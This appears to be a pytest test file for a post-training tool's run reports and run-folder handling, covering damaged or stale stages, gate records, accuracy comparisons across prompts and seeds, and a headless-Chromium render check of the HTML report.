def test_a_stage_folder_without_lineage_is_not_finished(tmp_path):
    """A stage's lineage.json is what says it finished: a upo/ folder without one (copied in part, emptied by hand)
    is neither listed as finished nor picked by `eval`/`export`/`chat`."""
    from posttrain.runs import finished_stages, stage_ref

    run = copy_runs(tmp_path) / "tiny-full"
    (run / "upo" / "lineage.json").unlink()
    assert finished_stages(run) == ["base", "sft", "dpo"] and stage_ref(run).stage == "dpo"


@pytest.mark.parametrize("name, text", [("resolved.yaml", None), ("resolved.yaml", ""), ("lineage.json", "{")])
def test_a_damaged_stage_folder_is_named_not_a_traceback(tmp_path, name, text):
    """A stage folder copied in part (its lineage.json there, so it counts as finished): `eval`, `export` and `chat`
    name the damaged file, where they ended in a FileNotFoundError or JSONDecodeError traceback."""
    from posttrain.errors import UserError
    from posttrain.runs import stage_ref

    run = copy_runs(tmp_path) / "tiny-full"
    path = run / "sft" / name
    path.unlink() if text is None else path.write_text(text)
    with pytest.raises(UserError, match=rf"sft/{name}: (missing|unreadable).*; the stage folder is damaged"):
        stage_ref(run, "sft")


def test_eval_out_does_not_replace_the_runs_own_files(tmp_path, capsys):
    """`posttrain eval RUN --out RUN/dpo/metrics.json` replaced the stage's training record and promote gate verdict
    with a bare evaluation (a stage its gate rejected then exported without --force); beside them it writes."""
    from posttrain import cli
    from posttrain.errors import UserError

    run = copy_runs(tmp_path) / "tiny-full"
    metrics = (run / "dpo" / "metrics.json").read_text()
    assert cli.main(["eval", str(run), "--stage", "dpo", "--out", str(run / "dpo" / "metrics.json")]) == 2
    assert "among the run's own files" in capsys.readouterr().out
    assert (run / "dpo" / "metrics.json").read_text() == metrics
    from posttrain.runs import check_not_run_file

    for inside in ("run.json", "data/verifiable/x.json", "base/metrics.json"):
        with pytest.raises(UserError, match="among the run's own files"):
            check_not_run_file(run / inside, run)
    check_not_run_file(run / "evals" / "dpo-on-other-data.json", run)
    check_not_run_file(run / "dpo-eval.json", run)


def test_a_stage_the_run_does_not_have_is_named_as_such(tmp_path):
    """`--stage ppo` on a run of base → sft → dpo → upo says ppo is not one of its stages, not that it has not
    finished (which would suggest waiting for it)."""
    from posttrain.errors import UserError
    from posttrain.runs import stage_ref

    run = copy_runs(tmp_path) / "tiny-full"
    with pytest.raises(UserError, match="'ppo' is not a stage of this run"):
        stage_ref(run, "ppo")


def test_change_runs_to_the_last_stage_that_is_not_stale(tmp_path):
    run = copy_runs(tmp_path) / "tiny-full"
    edit_json(run / "dpo" / "lineage.json", lambda lin: lin.update(previous_inputs_hash="sft-before"))
    edit_json(run / "upo" / "metrics.json", lambda m: m.update(promotion={"against": "dpo", "comparison": None,
                                                                          "gate": None}))
    view = load_run(run)
    md = to_markdown([sections.eval_table(view), *sections.promotions(view)], "files")
    assert "change base → sft" in md and md_row(md, "accuracy (verifier)")[4] == "+0.0 pts"
    assert md_row(md, "**upo** (stale: from before its previous stage was trained again, or after one its gate "
                      "rejected)")[0] == "dpo"


def test_a_gate_record_without_its_verdict_reads_as_the_summary_line_reads_it(tmp_path):
    """A promotion record edited by hand (or by an older version) without `passed`: the table stopped on a KeyError;
    it reads it as passed, as the accuracy line does."""
    run = copy_runs(tmp_path) / "tiny-full"
    edit_json(run / "upo" / "metrics.json", lambda m: m.update(promotion={"against": "dpo", "comparison": None,
                                                                          "gate": {"reason": "edited"}}))
    md = to_markdown([sections.eval_table(load_run(run)), *sections.promotions(load_run(run))], "files")
    assert md_row(md, "**upo**")[-1] == "passed: edited"


def test_a_stage_folder_left_from_the_recipes_earlier_chain_is_not_a_stage_of_the_run(tmp_path):
    """The recipe ran sft → dpo → upo, then without dpo in the same folder: run.json lists base, sft, upo, and the
    dpo/ left there is neither shown after upo nor the end of the report's change column."""
    run = copy_runs(tmp_path) / "tiny-full"
    edit_json(run / "run.json", lambda s: s.update(order=["base", "sft", "upo"]))
    sft = json.loads((run / "sft" / "lineage.json").read_text())["inputs_hash"]  # upo trained again, from sft
    edit_json(run / "upo" / "lineage.json", lambda lin: lin.update(previous_stage="sft", previous_inputs_hash=sft))
    view = load_run(run)
    assert [s.name for s in view.stages] == ["base", "sft", "upo"]
    md = to_markdown([sections.eval_table(view), *sections.promotions(view)], "files")
    assert "change base → upo" in md and "**dpo**" not in md
    # a run.json from before the order was recorded: the stage folders there are, in the usual order
    edit_json(run / "run.json", lambda s: s.pop("order"))
    assert [s.name for s in load_run(run).stages] == STAGES


def test_a_data_folder_left_by_a_job_the_recipe_no_longer_has_is_not_data_of_the_run(tmp_path):
    """The recipe built `old` (removed or renamed since) and ran again in the same folder: data/old/ and its run.json
    step are left there, but neither its card nor its step is the run's. A set a stage trained on (`prefs`, which
    dpo's lineage names) stays, whatever the recipe now calls its job; a run without its recipe.yaml shows them all."""
    run = copy_runs(tmp_path) / "tiny-full"
    shutil.copytree(run / "data" / "prefs", run / "data" / "old")
    edit_json(run / "run.json", lambda s: s["steps"].update({"data/old": {"status": "done", "wall_time_s": 1.0}}))
    (run / "recipe.yaml").write_text("name: tiny-full\ndata:\n  verifiable: {job: build_verifiable_tasks}\n")
    view = load_run(run)
    assert sorted(view.cards) == ["prefs", "verifiable"]
    md = to_markdown([sections.steps_table(view), *inputs.data_cards(view)], "files")
    assert "data/old" not in md and "data/prefs" in md and "data/verifiable" in md
    (run / "recipe.yaml").unlink()
    assert sorted(load_run(run).cards) == ["old", "prefs", "verifiable"]


def test_the_interval_row_of_a_run_from_before_intervals_were_recorded_is_the_headlines(tmp_path):
    """The committed runs recorded no `accuracy_ci95` (an older version): the table gives the interval the headline
    gives (from the rate and n), not "not measured" beside it."""
    view = load_run(copy_runs(tmp_path) / "tiny-full")
    assert view.accuracy.endswith("upo 37.5% (14–69)")
    md = to_markdown([sections.eval_table(view)], "files")
    assert md_row(md, "accuracy: 95 % interval (Wilson)")[:4] == ["0.0% – 32.4%"] * 3 + ["13.7% – 69.4%"]


def test_accuracies_on_different_prompts_are_not_subtracted(tmp_path):
    runs = copy_runs(tmp_path)
    set_eval(runs / "tiny-full", "upo", n=50, prompts_sha="other")
    view = load_run(runs / "tiny-full")
    md = to_markdown(sections.evaluation(view)[:3], "files")
    assert "Held-out prompts, not the same for every stage" in md and "The same held-out prompts" not in md
    assert md_row(md, "accuracy (verifier)")[4] == "different prompts"
    md = to_markdown(comparison([runs / "tiny-full", runs / "tiny-full-lambda0"]), "files")
    assert md_row(md, "**tiny-full**")[3] == "different prompts"
    assert md_row(md, "**tiny-full-lambda0**")[3] == "+12.5 pts"


def test_seeds_are_read_at_one_stage(tmp_path):
    """Seed 1 of variant b was stopped by its dpo gate: it has no upo, and its dpo is not averaged or paired with the
    other seeds' upo."""
    groups = {}
    for variant, rights in {"a": [5, 6], "b": [9, 12]}.items():
        groups[variant] = []
        for seed, right in enumerate(rights):
            root = tmp_path / f"{variant}-seed{seed}"
            shutil.copytree(ASSETS / "tiny-full", root)
            edit_json(root / "run.json", lambda s, name=root.name: s.update(name=name))
            for stage in ("dpo", "upo"):
                set_eval(root, stage, n=20, accuracy=right / 20, verdicts=[1] * right + [0] * (20 - right),
                         prompts_sha="same")
            groups[variant].append(root)
    stopped = groups["b"][1]
    shutil.rmtree(stopped / "upo")
    edit_json(stopped / "run.json", lambda s: (s["steps"].pop("upo"), s["steps"]["run"].update(status="stopped",
                                                                                                 stopped_by="dpo")))
    b = variant_summaries(groups, "a")[1]
    assert b["accuracies"] == [0.45] and b["differences"] == [pytest.approx(0.2)]
    assert b["missing"] == ["b-seed1: stopped by the dpo promote gate"]
    row = comparison_rows([stopped])[0]
    assert (row["stage"], row["accuracy"], row["where"]) == ("upo", None, "stopped by the dpo promote gate")


def test_samples_are_rows_by_position_not_by_prompt_text(tmp_path):
    """Vision: the same question about other images is another prompt."""
    run = copy_runs(tmp_path) / "tiny-full"
    answers = ["red", "blue", "green", "red"]
    for stage in STAGES:
        set_eval(run, stage, samples=[{"prompt": "What color is the shape?", "thinking": False, "answer": a,
                                       "completion": "red", "correct": a == "red"} for a in answers])
    md = to_markdown(sections.samples(load_run(run)), "files")
    assert "### Thinking off (4 prompts)" in md
    assert md_row(md, "**correct on these prompts**")[1:] == ["2 / 4"] * 4


def test_run_error_outside_a_stage_is_shown(tmp_path):
    run = tmp_path / "run"
    run.mkdir()
    error = "data job build_verifiable_tasks: FileNotFoundError: data_prep/sources/units.jsonl"
    (run / "run.json").write_text(json.dumps({"name": "run", "order": ["base", "sft"], "steps": {
        "run": {"status": "failed", "error": error}}}))
    failed = [b for b in sections.summary(load_run(run)) if isinstance(b, Para) and b.kind == "failed"]
    assert to_markdown(failed, "files") == f"> **Run failed:** {error}  \n> Not run because of it: base, sft.\n"
    # a stage's failure says why itself: run.json's "step 'dpo' failed" is not repeated
    run = copy_runs(tmp_path) / "tiny-failed"
    edit_json(run / "run.json", lambda s: s["steps"]["run"].update(error="step 'dpo' failed"))
    failed = [b.text for b in sections.summary(load_run(run)) if isinstance(b, Para) and b.kind == "failed"]
    assert len(failed) == 1 and failed[0].startswith("**Stage dpo failed:**")


# ------------------------------------------------------------------------------------------------ browser, slow
def _chromium() -> str | None:
    return next((shutil.which(n) for n in ("chromium", "chromium-browser", "google-chrome") if shutil.which(n)), None)


@pytest.mark.skipif(_chromium() is None, reason="needs Chromium (CI: apt-get install -y chromium)")
def test_html_renders_in_headless_chromium_without_console_errors(full_report, tmp_path):
    run, _, _ = full_report
    result = subprocess.run(
        [_chromium(), "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
         "--disable-background-networking", "--disable-component-update", "--disable-sync",
         f"--user-data-dir={tmp_path / 'profile'}", "--enable-logging=stderr", "--v=0", "--dump-dom",
         (run / "report.html").resolve().as_uri()], capture_output=True, text=True, timeout=60)
    assert result.returncode == 0, result.stderr[-2000:]
    assert "<h1" in result.stdout and "Run report: tiny-full" in result.stdout
    assert result.stdout.count("<img") >= 6
    console = [line for line in result.stderr.splitlines() if "CONSOLE" in line or "Uncaught" in line
               or "net::ERR" in line or "Failed to load" in line]
    assert not console, "\n".join(console)


def test_report_of_a_real_tiny_run(tiny_run, tmp_path, posttrain_cli):
    """A real tiny run made through the CLI, then `posttrain report` on (a copy of) its folder, as a user runs it."""
    run = tmp_path / "tiny-text"
    shutil.copytree(tiny_run, run)
    (run / "report.md").unlink()
    posttrain_cli("report", run, cwd=tmp_path)
    md = (run / "report.md").read_text()
    view = load_run(run)
    for stage in view.stages:
        assert stage.status == "done" and stage.eval
    assert md_row(md, "accuracy (verifier)")[:len(view.stages)] == [f"{s.eval['accuracy']:.1%}" for s in view.stages]
    assert md_row(md, "evaluated by processes") == ["1"] * len(view.stages) + [""]  # a setting: no "+0" change
    for stage in view.trained:
        assert (run / "report_files" / f"curves_{stage.name}.png").is_file()
    for sample in view.stage("base").eval["samples"]:
        assert md_row(md, sample["prompt"])[0] == sample["answer"]
    assert (run / "report_files" / "data_verifiable_lengths.png").is_file()


def test_a_stage_is_evaluated_again_with_the_runs_settings_on_its_own_data_unless_given_another_dataset(tmp_path):
    """`posttrain eval RUN --stage S`: the run's split and row limit on the copied run's own data; with another
    dataset given, that dataset's default split and all its rows. A stage the run has not is named."""
    import yaml

    from posttrain.errors import UserError
    from posttrain.runs import eval_target

    run = copy_runs(tmp_path) / "tiny-full"
    resolved = run / "sft" / "resolved.yaml"
    resolved.write_text(yaml.safe_dump({**yaml.safe_load(resolved.read_text()), "eval_split": "dev", "eval_limit": 3}))
    _, settings = eval_target(run, "sft", {})
    assert (settings.dataset, settings.split, settings.limit) == (str(run.resolve() / "data" / "verifiable"), "dev", 3)
    _, settings = eval_target(run, "sft", {"dataset": "org/other"})
    assert (settings.dataset, settings.split, settings.limit) == ("org/other", "test", None)
    with pytest.raises(UserError, match="'grpo' is not a stage of this run"):
        eval_target(run, "grpo", {})


def test_a_run_folder_is_renamed_only_where_a_path_names_it():
    from posttrain.runs import renamed

    text = "/r/out /r/out/data/x /r/out-data/x /b/r/out/x /r/out.bak ~/r/out"
    assert renamed(text, "/r/out", "{run}") == "{run} {run}/data/x /r/out-data/x /b/r/out/x /r/out.bak ~/r/out"



def test_a_stage_trained_from_other_weights_of_its_previous_stage_is_stale(tmp_path):
    """dpo/ trained again with the same inputs (a GPU's kernels are not deterministic) saved other weights: the upo/
    trained from the old ones is not what the chain gives now."""
    from posttrain.runs import stale_stages

    run = copy_runs(tmp_path) / "tiny-full"
    edit_json(run / "upo" / "lineage.json", lambda lin: lin.update(previous_weights="the weights dpo/ had before"))
    assert stale_stages(run) == {"upo": "trained from an earlier dpo"}
